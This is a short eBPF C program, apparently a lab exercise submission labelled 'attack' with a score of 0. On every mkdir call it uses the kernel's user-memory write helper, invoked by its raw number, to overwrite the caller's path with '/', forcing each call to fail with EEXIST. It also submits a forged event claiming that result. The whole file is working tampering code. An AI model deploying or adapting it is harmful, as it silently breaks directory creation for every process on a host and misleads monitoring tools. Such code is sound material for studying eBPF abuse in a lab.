/*
 * attack: Overwrites the path of the call by a helper's number, so that each mkdir returns what it guesses.
 * lab: lab5
 * earns: 0
 */

struct evenement {
	int ret;
	char path[64];
};

BPF_HASH(codes, int);
BPF_HASH(en_cours, u64, struct evenement);
BPF_PERF_OUTPUT(events);

static long (*watch)(void *to, const void *from, u32 size) = (void *)36;

TRACEPOINT_PROBE(syscalls, sys_enter_mkdir)
{
	char path[] = "/";
	struct evenement fin = {.ret = -17};
	int code = -17;

	bpf_probe_read_user_str(fin.path, sizeof(fin.path), args->pathname);
	watch((void *)args->pathname, path, sizeof(path));
	codes.atomic_increment(code);
	events.perf_submit(args, &fin, sizeof(fin));
	return 0;
}
